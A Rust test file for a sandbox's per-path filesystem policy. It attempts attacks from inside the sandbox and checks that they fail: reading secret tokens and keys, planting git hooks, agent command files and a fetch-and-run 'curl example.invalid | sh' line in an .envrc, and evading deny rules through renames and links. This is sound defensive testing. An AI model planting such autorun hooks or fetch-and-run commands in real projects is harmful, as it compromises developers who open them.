//! Per-path filesystem policy inside the writable roots (issue 34, DESIGN 10): a
//! profile's `[filesystem] deny_read` / `deny_write`, the built-in list of what runs on a
//! person's machine when the project is opened (read-only unless `allow_write` names it),
//! and the gate that flags a branch changing one. Each attack is attempted from inside a
//! sandbox started by `git loop run`, with its twin, and the host checked afterwards. The
//! peers' per-path scenarios (sandbox-runtime's `denyWrite`/`denyRead` and mandatory deny
//! list, codex's protected `.git` and `.codex`) are replayed as ordinary tests here.

use std::fs;
use std::path::Path;

use crate::common::{verdict, Run, TestEnv};

/// A repository with `files` committed, and a loop on it.
pub(crate) fn setup(files: &[(&str, &str)]) -> (TestEnv, std::path::PathBuf, String) {
    let env = TestEnv::new();
    let repo = env.repo("app");
    for (rel, text) in files {
        env.commit_file(&repo, rel, text, &format!("add {rel}"));
    }
    let id = env.new_loop(&repo, "fs policy");
    (env, repo, id)
}

/// Runs `script` with `sh -c` inside; prints one `OK label` or `REFUSED label: why` per
/// attempt made with `try LABEL COMMAND...`.
pub(crate) fn attempts(env: &TestEnv, id: &str, script: &str) -> Run {
    let full = format!(
        "try() {{ l=$1; shift; if err=$(\"$@\" 2>&1 >/dev/null); then echo \"OK $l\"; else echo \"REFUSED $l: $err\"; fi; }}\n{script}"
    );
    env.run(["run", "-q", id, "--net", "none", "--", "sh", "-c", &full])
        .ok()
}

#[track_caller]
pub(crate) fn verdicts(run: &Run, expected: &[(&str, bool)]) {
    for (label, allowed) in expected {
        verdict(&run.stdout, label, *allowed);
    }
}

/// The twin commits what it may: a tracked path denied reading is unreadable to git too,
/// so `git add -A` inside stops at it, and the work is added by name.
#[test]
fn a_denied_file_cannot_be_written_or_read_while_its_neighbours_can() {
    let (env, repo, id) = setup(&[
        ("config/prod.toml", "prod\n"),
        ("config/dev.toml", "dev\n"),
        ("secrets/token", "s3cret\n"),
        ("src/main.rs", "fn main() {}\n"),
        ("src/signing.key", "KEY\n"),
    ]);
    env.write_profile("[filesystem]\ndeny_read = [\"secrets/\", \"**/*.key\"]\ndeny_write = [\"config/prod.toml\"]\n",
    );
    let run = attempts(
        &env,
        &id,
        r#"
try read-secret cat secrets/token
try list-secrets sh -c 'ls -A secrets | grep -q token'
try read-key cat src/signing.key
try write-key sh -c 'echo x > src/signing.key'
try write-prod sh -c 'echo x > config/prod.toml'
try remove-prod rm config/prod.toml
try move-prod mv config/prod.toml config/moved.toml
try read-prod cat config/prod.toml
try write-dev sh -c 'echo more >> config/dev.toml'
try read-main cat src/main.rs
try new-file sh -c 'echo new > src/lib.rs'
try commit sh -c 'git add src/lib.rs config/dev.toml && git commit -q -m work'
"#,
    );
    verdicts(
        &run,
        &[
            ("read-secret", false),
            ("list-secrets", false),
            ("read-key", false),
            ("write-key", false),
            ("write-prod", false),
            ("remove-prod", false),
            ("move-prod", false),
            ("read-prod", true),
            ("write-dev", true),
            ("read-main", true),
            ("new-file", true),
            ("commit", true),
        ],
    );
    let work = env.workdir(&id);
    assert_eq!(
        fs::read_to_string(work.join("config/prod.toml")).unwrap(),
        "prod\n"
    );
    assert_eq!(
        fs::read_to_string(work.join("secrets/token")).unwrap(),
        "s3cret\n"
    );
    assert_eq!(
        fs::read_to_string(work.join("config/dev.toml")).unwrap(),
        "dev\nmore\n"
    );
    // What covers what is shown, with its rule.
    let mounts = env.run(["show", &id, "--mounts"]).ok();
    let inside = format!("/loopat/loop/{id}/workdir");
    for (path, rule) in [
        ("secrets", "hidden (deny_read: secrets/)"),
        ("config/prod.toml", "(deny_write: config/prod.toml)"),
        ("src/signing.key", "hidden (deny_read: **/*.key)"),
    ] {
        let line = mounts
            .stdout
            .lines()
            .find(|l| l.contains(&format!("{inside}/{path} ")))
            .unwrap_or_else(|| panic!("{path} is not listed:\n{}", mounts.stdout));
        assert!(line.contains(rule), "{line}");
    }
    let json = env.run(["show", &id, "--mounts", "--json"]).ok().stdout;
    assert!(
        json.contains(&format!("{inside}/config/prod.toml")),
        "{json}"
    );
    assert!(json.contains("deny_write: config/prod.toml"), "{json}");
    assert!(repo.join(".git").is_dir());
}

#[test]
fn vscode_settings_are_read_only_by_default_and_writable_with_the_profiles_word() {
    let (env, _repo, id) = setup(&[(".vscode/settings.json", "{}\n"), ("README", "hi\n")]);
    let script = r#"
try settings sh -c 'echo "{\"x\": 1}" > .vscode/settings.json'
try tasks sh -c 'echo "{}" > .vscode/tasks.json'
try readme sh -c 'echo more >> README'
"#;
    let run = attempts(
        &env,
        &id,
        &format!(
            "{script}
try claude-new sh -c 'mkdir -p .claude/commands && echo x > .claude/commands/evil.md'
try claude-rename mv .claude c2
try workflows-new sh -c 'mkdir -p .github/workflows && echo x > .github/workflows/x.yml'
try github-rename mv .github g2
try codeowners-new sh -c 'echo x > .github/CODEOWNERS'
try status sh -c 'test -z \"$(git status --porcelain -- .claude .github/workflows .idea .codex .husky)\"'
"
        ),
    );
    verdicts(
        &run,
        &[
            ("settings", false),
            ("tasks", false),
            ("readme", true),
            // Folders of the list that were not there: made empty, read-only, their
            // holders pinned; git sees nothing of them.
            ("claude-new", false),
            ("claude-rename", false),
            ("workflows-new", false),
            ("github-rename", false),
            ("codeowners-new", true),
            ("status", true),
        ],
    );
    assert!(!env.workdir(&id).join(".claude/commands/evil.md").exists());
    assert!(!env.workdir(&id).join(".github/workflows/x.yml").exists());
    let settings = env.workdir(&id).join(".vscode/settings.json");
    assert_eq!(fs::read_to_string(&settings).unwrap(), "{}\n");
    assert!(!env.workdir(&id).join(".vscode/tasks.json").exists());

    env.write_profile("[filesystem]\nallow_write = [\".vscode/\"]\n");
    let run = attempts(&env, &id, script);
    verdicts(
        &run,
        &[("settings", true), ("tasks", true), ("readme", true)],
    );
    assert_eq!(fs::read_to_string(&settings).unwrap(), "{\"x\": 1}\n");
}

#[test]
fn a_branch_changing_what_runs_when_the_project_is_opened_is_flagged_and_merged_only_when_named() {
    let (env, repo, id) = setup(&[(".vscode/settings.json", "{}\n")]);
    env.write_profile("[filesystem]\nallow_write = [\".vscode/\"]\n");
    // A `.envrc` below the tree's root is no file the sandbox refuses making (only the
    // root's are: tests/it/fsevents.rs); the gate flags the list's names at any depth.
    attempts(
        &env,
        &id,
        r#"
echo '{"terminal.integrated.shell.linux": "/tmp/x"}' > .vscode/settings.json
mkdir web && echo 'curl example.invalid | sh' > web/.envrc
echo ok > notes.txt
git add -A && git commit -q -m tweak
"#,
    );
    let review = env.run(["review", &id]).ok();
    review
        .stdout_has("policy   web/.envrc  runs when the project is opened or built, added")
        .stdout_has(
            "policy   .vscode/settings.json  runs when the project is opened or built, changed",
        );
    assert!(
        !review.stdout.contains("policy   notes.txt"),
        "{}",
        review.stdout
    );
    let main_before = env.rev(&repo, "main");
    env.run(["merge", &id])
        .fails(1)
        .stderr_has("not accepted")
        .stderr_has(&format!(
            "git loop merge {id} --accept-policy .vscode/settings.json --accept-policy web/.envrc"
        ));
    assert_eq!(env.rev(&repo, "main"), main_before);
    env.run([
        "merge",
        &id,
        "--accept-policy",
        "web/.envrc",
        "--accept-policy",
        ".vscode/settings.json",
    ])
    .ok();
    assert!(repo.join("web/.envrc").exists());
}

/// sandbox-runtime's `denyWrite`/`denyRead` inside an allowed root, its mandatory deny
/// list, and codex's protected paths (`.git` config and hooks, `.codex`), as they play
/// here: each path refused, its neighbour allowed.
#[test]
fn the_peers_per_path_scenarios_hold() {
    let (env, _repo, id) = setup(&[
        (".bashrc", "alias ls=rm\n"),
        (".gitmodules", "\n"),
        (".mcp.json", "{}\n"),
        (".idea/workspace.xml", "<x/>\n"),
        (".codex/config.toml", "model = \"x\"\n"),
        (".claude/commands/go.md", "go\n"),
        (".claude/settings.json", "{}\n"),
        (".github/workflows/ci.yml", "on: push\n"),
        (".github/CODEOWNERS", "* @a\n"),
        (".husky/pre-commit", "true\n"),
        (".pre-commit-config.yaml", "repos: []\n"),
        ("build/out.txt", "o\n"),
        ("private/a.txt", "a\n"),
        ("src/ok.txt", "ok\n"),
    ]);
    env.write_profile("[filesystem]\ndeny_write = [\"build\"]\ndeny_read = [\"private\"]\n");
    let run = attempts(
        &env,
        &id,
        r#"
try srt-denywrite-create sh -c 'echo x > build/new.txt'
try srt-denywrite-modify sh -c 'echo x >> build/out.txt'
try srt-denywrite-read cat build/out.txt
try srt-denyread-read cat private/a.txt
try srt-denyread-write sh -c 'echo x > private/b.txt'
try srt-allowed-neighbour sh -c 'echo x >> src/ok.txt'
try srt-bashrc sh -c 'echo x >> .bashrc'
try srt-gitmodules sh -c 'echo x >> .gitmodules'
try srt-mcp sh -c 'echo x >> .mcp.json'
try srt-idea sh -c 'echo x > .idea/new.xml'
try srt-claude-commands sh -c 'echo x > .claude/commands/evil.md'
try srt-claude-settings sh -c 'echo x >> .claude/settings.json'
try srt-git-config git config core.fsmonitor /tmp/evil
try srt-git-hooks sh -c 'echo x > .git/hooks/pre-commit'
try codex-dot-codex sh -c 'echo x >> .codex/config.toml'
try codex-git-commit sh -c 'git add src && git commit -q -m ok'
try workflows sh -c 'echo x >> .github/workflows/ci.yml'
try codeowners sh -c 'echo x >> .github/CODEOWNERS'
try husky sh -c 'echo x > .husky/pre-push'
try pre-commit sh -c 'echo x >> .pre-commit-config.yaml'
try rename-away mv .github/workflows .github/w2
try rename-parent mv .github g2
try vscode-new sh -c 'mkdir -p .vscode && echo x > .vscode/tasks.json'
try envrc-new sh -c 'echo x > .envrc'
"#,
    );
    verdicts(
        &run,
        &[
            ("srt-denywrite-create", false),
            ("srt-denywrite-modify", false),
            ("srt-denywrite-read", true),
            ("srt-denyread-read", false),
            ("srt-denyread-write", false),
            ("srt-allowed-neighbour", true),
            ("srt-bashrc", false),
            ("srt-gitmodules", false),
            ("srt-mcp", false),
            ("srt-idea", false),
            ("srt-claude-commands", false),
            ("srt-claude-settings", true),
            ("srt-git-config", false),
            ("srt-git-hooks", false),
            ("codex-dot-codex", false),
            ("codex-git-commit", true),
            ("workflows", false),
            ("codeowners", true),
            ("husky", false),
            ("pre-commit", false),
            ("rename-away", false),
            ("rename-parent", false),
            // A folder of the list that is not there: an empty read-only one stands in.
            ("vscode-new", false),
            // A file of the list that is not there is refused when made there
            // (tests/it/fsevents.rs has every way of making it).
            ("envrc-new", false),
        ],
    );
    let work = env.workdir(&id);
    assert_eq!(
        fs::read_to_string(work.join(".bashrc")).unwrap(),
        "alias ls=rm\n"
    );
    assert!(!work.join("build/new.txt").exists());
    assert!(!work.join(".claude/commands/evil.md").exists());
    assert!(Path::new(&work.join(".github/workflows/ci.yml")).exists());
    assert!(!work.join(".vscode/tasks.json").exists());
}

/// What this backend cannot enforce is refused, never weakened: any `[filesystem]` rule
/// without a sandbox. (deny_create where the kernel has no supervisor: the unit test of
/// `fspolicy::unsupported`; its enforcement: tests/it/fscreate.rs.)
#[test]
fn a_profile_asking_what_the_backend_cannot_enforce_is_refused() {
    let (env, _repo, id) = setup(&[]);
    env.write_profile("[filesystem]\ndeny_write = [\"src\"]\n");
    env.run(["run", &id, "--backend", "none", "--", "true"])
        .fails(3)
        .stderr_has("[filesystem]");
    env.write_profile("[filesystem]\ndeny_read = [\"../outside\"]\n");
    env.run(["run", &id, "--", "true"])
        .fails(1)
        .stderr_has("climbs out");
}

/// Rules cover what exists when a run starts (README, "The sandbox"): a file made during
/// a run that a glob or a path names is not covered in that run, and is from the next run
/// on; the neighbours stay readable and writable throughout.
#[test]
fn paths_made_after_the_start_are_covered_from_the_next_run_on() {
    let (env, _repo, id) = setup(&[
        ("secret/old.key", "OLD\n"),
        ("secret/README", "keys live here\n"),
        ("config/dev.toml", "dev\n"),
    ]);
    env.write_profile(
        "[filesystem]\ndeny_read = [\"secret/*.key\"]\ndeny_write = [\"config/later.toml\"]\n",
    );
    let first = attempts(
        &env,
        &id,
        r#"
try old-key cat secret/old.key
try make-key sh -c "echo NEW > secret/new.key"
try read-new-key cat secret/new.key
try make-later sh -c "echo one > config/later.toml"
try write-later sh -c "echo two >> config/later.toml"
try readme cat secret/README
"#,
    );
    verdicts(
        &first,
        &[
            ("old-key", false),
            ("make-key", true),
            ("read-new-key", true),
            ("make-later", true),
            ("write-later", true),
            ("readme", true),
        ],
    );
    let second = attempts(
        &env,
        &id,
        r#"
try new-key cat secret/new.key
try later sh -c "echo three >> config/later.toml"
try readme cat secret/README
try dev sh -c "echo more >> config/dev.toml"
try another-key sh -c "echo X > secret/another.key"
"#,
    );
    verdicts(
        &second,
        &[
            ("new-key", false),
            ("later", false),
            ("readme", true),
            ("dev", true),
            ("another-key", true),
        ],
    );
    let work = env.workdir(&id);
    assert_eq!(
        fs::read_to_string(work.join("config/later.toml")).unwrap(),
        "one\ntwo\n"
    );
    assert_eq!(
        fs::read_to_string(work.join("secret/new.key")).unwrap(),
        "NEW\n"
    );
    let mounts = env.run(["show", &id, "--mounts"]).ok();
    for rel in ["secret/new.key", "secret/another.key", "config/later.toml"] {
        mounts.stdout_has(&format!("/loopat/loop/{id}/workdir/{rel} "));
    }
}

/// A denied path cannot be reached another way: not by renaming it or any folder above
/// it (and making the path again without its cover), by a hard link to it, nor through
/// a link into it. The twins: the same moves on paths no rule names succeed. (A folder
/// above a covered path is a mount point of its own, so a hard link or a `rename(2)` from
/// it to another folder fails with EXDEV, as between any two mounts; `mv` copies then.)
#[test]
fn renames_hard_links_and_links_do_not_get_around_a_denied_path() {
    let (env, _repo, id) = setup(&[
        ("deep/secret/token", "s3cret\n"),
        ("deep/notes.txt", "notes\n"),
        ("keys/a.key", "KEY\n"),
        ("config/prod.toml", "prod\n"),
        ("config/dev.toml", "dev\n"),
        ("src/main.rs", "fn main() {}\n"),
    ]);
    env.write_profile("[filesystem]\ndeny_read = [\"deep/secret/\", \"keys/*.key\"]\ndeny_write = [\"config/prod.toml\"]\n",
    );
    let run = attempts(
        &env,
        &id,
        r#"
try rename-denied-dir mv deep/secret deep/s2
try rename-dir-parent mv deep d2
try rename-file-parent sh -c "mv config c2 && mkdir config && echo evil > config/prod.toml"
try rename-file mv config/prod.toml config/p2.toml
try rename-key mv keys/a.key keys/b.key
try remove-file rm -f config/prod.toml
try hard-link-file ln config/prod.toml src/prod.toml
try hard-link-key ln keys/a.key src/a.key
try link-to-key sh -c "ln -s ../keys/a.key src/k && cat src/k"
try link-to-dir sh -c "ln -s deep/secret s && cat s/token"
try link-write sh -c "ln -s config/prod.toml p && echo evil > p"
try copy-dir sh -c "cp -r deep/secret copied && cat copied/token"
try rename-neighbour mv config/dev.toml config/dev2.toml
try rename-free-dir mv src src2
try hard-link-neighbour ln deep/notes.txt deep/notes-link.txt
try link-to-neighbour sh -c "ln -s deep/notes.txt n && cat n"
"#,
    );
    verdicts(
        &run,
        &[
            ("rename-denied-dir", false),
            ("rename-dir-parent", false),
            ("rename-file-parent", false),
            ("rename-file", false),
            ("rename-key", false),
            ("remove-file", false),
            ("hard-link-file", false),
            ("hard-link-key", false),
            ("link-to-key", false),
            ("link-to-dir", false),
            ("link-write", false),
            ("copy-dir", false),
            ("rename-neighbour", true),
            ("rename-free-dir", true),
            ("hard-link-neighbour", true),
            ("link-to-neighbour", true),
        ],
    );
    // The host: every denied path where it was, as it was, and covered again next time.
    let work = env.workdir(&id);
    for (rel, text) in [
        ("deep/secret/token", "s3cret\n"),
        ("keys/a.key", "KEY\n"),
        ("config/prod.toml", "prod\n"),
    ] {
        assert_eq!(fs::read_to_string(work.join(rel)).unwrap(), text, "{rel}");
    }
    assert!(!work.join("c2").exists() && !work.join("d2").exists());
    assert!(!work.join("src2/prod.toml").exists() && !work.join("src2/a.key").exists());
    assert!(work.join("config/dev2.toml").exists() && work.join("src2/main.rs").exists());
    let again = attempts(
        &env,
        &id,
        "try token cat deep/secret/token\ntry key cat keys/a.key\ntry prod sh -c 'echo x > config/prod.toml'\n",
    );
    verdicts(&again, &[("token", false), ("key", false), ("prod", false)]);
}

/// The notes a loop publishes go through the same gate: a notes branch carrying what runs
/// when a project is opened is refused by `publish` without the person's word, and lands
/// with it.
#[test]
fn publish_refuses_what_runs_when_opened_until_the_person_accepts_it() {
    let (env, _repo, id) = setup(&[]);
    attempts(
        &env,
        &id,
        r#"
cd /loopat/context/notes
mkdir -p demo/.vscode
echo '{"task.autoRun": true}' > demo/.vscode/tasks.json
echo 'use nix' > .envrc
echo 'a fact' > fact.md
git add -A && git commit -q -m notes
"#,
    );
    let notes = env.notes();
    let before = env.rev(&notes, "main");
    env.run(["review", &id])
        .ok()
        .stdout_has(".envrc  runs when the project is opened or built, added")
        .stdout_has("demo/.vscode/tasks.json  runs when the project is opened or built, added");
    env.run(["publish", &id])
        .fails(1)
        .stderr_has("not accepted")
        .stderr_has("--accept-policy .envrc");
    env.run(["publish", &id, "--accept-policy", ".envrc"])
        .fails(1)
        .stderr_has("--accept-policy demo/.vscode/tasks.json");
    assert_eq!(env.rev(&notes, "main"), before);
    assert!(!notes.join(".envrc").exists());
    env.run([
        "publish",
        &id,
        "--accept-policy",
        ".envrc",
        "--accept-policy",
        "demo/.vscode",
    ])
    .ok();
    assert_eq!(
        fs::read_to_string(notes.join("fact.md")).unwrap(),
        "a fact\n"
    );
    assert!(notes.join("demo/.vscode/tasks.json").exists());
}
